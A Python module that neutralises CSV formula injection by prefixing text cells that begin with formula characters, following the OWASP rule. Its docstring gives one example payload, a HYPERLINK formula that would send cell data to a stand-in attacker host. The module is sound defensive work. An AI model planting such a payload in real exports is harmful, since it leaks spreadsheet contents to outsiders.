"""CSV that is safe to open in a spreadsheet: every CSV the service or the CLI writes goes through `write`.

Excel and LibreOffice run a cell that begins with `=`, `+`, `-` or `@` as a formula (and treat a leading tab or
carriage return the same way), so a zone name like `=HYPERLINK("http://evil.example/?"&A1)` would be a live
link in the legal team's spreadsheet. Following the OWASP rule, a text cell beginning with one of those
characters gets a leading single quote, which the spreadsheet shows as text and does not evaluate.

Numbers are data, not formulas: a cell whose value is a Python int or float (a negative `days_left`, a
coordinate) is written as the number it is and left alone. Text that merely looks like a number (`-5` in a
`reason` column) is text and is neutralised like any other.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """The value as a CSV cell: None is empty, numbers stay numbers, text cannot start a formula."""
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def write(rows: Iterable[Mapping[str, Any]], columns: Sequence[str]) -> str:
    """The rows as CSV text with a header line; keys not in `columns` are ignored, missing ones are empty."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([cell(c) for c in columns])
    for row in rows:
        writer.writerow([cell(row.get(c)) for c in columns])
    return out.getvalue()
